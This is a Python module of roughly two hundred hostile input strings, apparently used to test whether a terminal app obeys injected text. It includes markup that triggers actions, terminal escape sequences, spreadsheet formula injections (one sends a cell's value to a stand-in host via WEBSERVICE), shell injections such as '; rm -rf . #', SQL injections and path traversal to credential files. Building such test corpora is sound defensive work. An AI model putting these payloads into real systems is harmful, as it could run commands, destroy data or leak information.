"""Two hundred texts that somebody could write into a field, or a file carry there, to make a program obey them."""

from __future__ import annotations

import unicodedata
from collections.abc import Mapping
from typing import Final

#: The name of an action that markup in the corpus calls, and that a test arms.
ACTION = "struck"

_MARKUP = (
    *(f"[@click={place}{ACTION}]Klik[/]" for place in ("", "app.", "screen.", "focused.")),
    f"[@click=app.{ACTION}('quit')]Klik her[/@click]",
    "[@click=app.quit]Afslut[/]",
    "[@click=app.bell()]Bip[/]",
    "[@click=app.command('quit')]Ud[/]",
    "[@click=screen.command('accept')]Book[/]",
    "[@click=app.command('undo')]Fortryd[/]",
    "[@click=app.push_screen('x')]",
    "[@hover=app.struck][@mouse.down=app.struck]Peg[/]",
    "[link=https://opdigtet.invalid]Se her[/link]",
    "[link='file:///etc/passwd']fil[/]",
    "[bold red]Fed[/bold red]",
    "[bold]Åben",
    "[/]",
    "[/bold]",
    "[red]A[/blue]",
    "[b][i]kors[/b][/i]",
    "[on $error]$primary[/]",
    "[$accent 50%]halv[/]",
    "[",
    "]",
    "[]",
    "[[",
    "\\[x]",
    "\\\\[b]\\",
    "[@",
    "[@click=",
    "[@click=app.struck(",
    "[=]",
    "[/@click]",
    "[#ff0000]farve[/#ff0000]",
    "[:smile:]:warning:",
    "Møde [kl. 10] [/x]",
)
_ESCAPES = (
    "\x1b",
    "\x1b[",
    "\x1b[2J\x1b[H",
    "\x1b[31mRød\x1b[0m",
    "\x1b[5mBlink",
    "\x1b[8mSkjult",
    "\x1b[999;999H",
    "\x1b[1A\x1b[2K",
    "\x1b[?1049l",
    "\x1b[?25l\x1b[?1000h",
    "\x1b[6n",
    "\x1b[c",
    "\x1b[21t",
    "\x1b[200~indsat\x1b[201~",
    "\x1bc",
    "\x1b7\x1b8",
    "\x1b(0qqq\x1b(B",
    "\x1b#8",
    "\x1b]0;BAD\x07",
    "\x1b]2;BAD\x1b\\",
    "\x1b]52;c;QkFE\x07",
    "\x1b]52;c;?\x07",
    "\x1b]8;;https://opdigtet.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]4;1;#000000\x07",
    "\x1b]1337;File=inline=1:QkFE\x07",
    "\x1bP$qm\x1b\\",
    "\x1bP+q544e\x1b\\",
    "\x1b_Gf=100;QkFE\x1b\\",
    "\x1b^BAD\x1b\\",
    "\x1bXBAD\x1b\\",
    "\x9b31mRød",
    "\x9d52;c;QkFE\x9c",
    "\x90$qm\x9c",
    "\x85ny\x84linje",
    "\x8e\x8f\x98\x9a\x9e\x9f",
    "\xc2\x9b2J",
)
_CONTROLS = (
    "\x07\x07bip",
    "sletter\x08\x08\x08\x08\x08\x08\x08",
    "\x7f\x7fslettet",
    "for\rbag",
    "to\nlinjer",
    "to\r\nlinjer\r\n",
    "\ttab\tulator",
    "\vlodret\fside",
    "\u2028linje\u2029afsnit",
    "\0",
    "NUL\0midt i",
    "slut\0",
    "\x0e\x0f\x10\x11\x12\x13\x14",
    "\x16\x17\x18\x19\x1a",
    "\x1c\x1d\x1e\x1f",
    "\ufffe\uffff",
    "\ue000\uf8ff",
)
_DIRECTIONS = (
    *(f"Bo{mark}esreveR" for mark in "\u202a\u202b\u202d\u202e"),
    *(f"a{mark}b\u2069c" for mark in "\u2066\u2067\u2068"),
    "\u200fhøjre\u200evenstre",
    "\u061carabisk mærke",
    "\u202c\u202c\u2069\u2069",
    "gnp.\u202exslx",
    "محمد عبد الله",
    "שָׁלוֹם כהן",
    "Bo محمد Ibsen 12",
)
_UNSEEN = (
    "\u200b",
    "nul\u200bbredde",
    "\ufeffBOM",
    "blød\u00adbinde\u00adstreg",
    "\u2060\u2061\u2062\u2063",
    "\U000e0001\U000e0042\U000e0061",
    "\u180e\u034f",
    "\u00a0\u2003\u3000",
    "\u115f\u3164\uffa0",
    "\ufff9a\ufffab\ufffb",
)
_WIDE = (
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334a\u0314\u0315",
    "a" + "\u0301" * 80,
    "\u0301\u0302foran",
    "A\u030ase O\u0338rn",
    "\u1100\u1161\u11a8",
    "王小明王小明王小明王小明王小明",
    "ｗｉｄｅ　ｔｅｘｔ",
    "가나다라마바사",
    "👩‍👩‍👧‍👦 familie",
    "👩🏽‍💻🏳️‍🌈🏴‍☠️",
    "🇩🇰🇩🇰🇩",
    "❤️☎︎☎️",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e007f",
    "नमस्ते क्षि",
    "ไม่มีชื่อ",
    "ﷺ﷽",
    "𝕬𝖆𝖘𝖊 ℌ",
    "ß ŉ ǰ ΐ ﬃ İı",
)
_FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://opdigtet.invalid";"Klik")',
    '=WEBSERVICE("https://opdigtet.invalid/"&A1)',
    "+4512345678",
    "-2+3",
    "-",
    "@SUM(1;2)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "'=1+1",
    "''=1+1",
    "'",
    ' "=1+1',
    "; =1+1 ;",
)
_FORMATS = (
    "%s%s%s%n",
    "%(name)s %d",
    "%",
    "100 %",
    "{0} {1}",
    "{citizen}",
    "{name.__class__.__mro__}",
    "{name!r:>9999}",
    "{",
    "}}{",
    "$name ${HOME}",
    "[phone] {place}",
    "[!interpreter] [[",
)
_FOREIGN = (
    "../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "~opdigtet",
    "~/.ssh/id_rsa",
    "$(touch struck)",
    "`touch struck`",
    "; rm -rf . #",
    "| cat && true",
    "--yes",
    "-",
    "'; DROP TABLE citizens; --",
    '" OR ""="',
    "%' UNION SELECT * FROM citizens --",
    "Robert'); DELETE FROM journal;--",
    '{"schema": "planner-caseload/1"}',
    '"}],"citizens":[{"id":"x',
    "\\u0041\\x41\\n",
    'schema = "x"\n[columns]',
    "<script>alert(1)</script>",
    "&lt;&amp;&#x41;",
    "BEGIN:VEVENT\r\nSUMMARY:x\r\nEND:VEVENT",
    "null",
    "NaN",
    "1e999",
)
_OWN_WORDS = ("ctrl+q", "quit", "escape", "q", "command('quit')", "citizen:c-001", "law-2026")
_LONG = ("x" * 10_000, "ord " * 2_500, "Å\u0301" * 100, "\n" * 300 + "sidst", "[" * 500)

#: The corpus by what its texts try.
KINDS: Final[Mapping[str, tuple[str, ...]]] = {
    "markup": _MARKUP,
    "escapes": _ESCAPES,
    "controls": _CONTROLS,
    "directions": _DIRECTIONS,
    "unseen": _UNSEEN,
    "wide": _WIDE,
    "formulas": _FORMULAS,
    "formats": _FORMATS,
    "foreign": _FOREIGN,
    "own words": _OWN_WORDS,
    "long": _LONG,
}
HOSTILE: Final = tuple(dict.fromkeys(text for texts in KINDS.values() for text in texts))
#: Halves of characters, which JSON can carry and UTF-8 cannot.
HALVES: Final = ("\ud800", "a\udfffb", "\udc80\udcff")
_ACTING = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})


def fitting(text: str, most: int, instead: str) -> str:
    """The text, cut where a field takes no more; `instead` where nothing of it is more than a blank."""
    cut = text[:most]
    return cut if cut.strip() else instead


def acting(text: str) -> list[str]:
    """The characters on which a terminal would act, or which hide themselves."""
    return [char for char in text if unicodedata.category(char) in _ACTING]
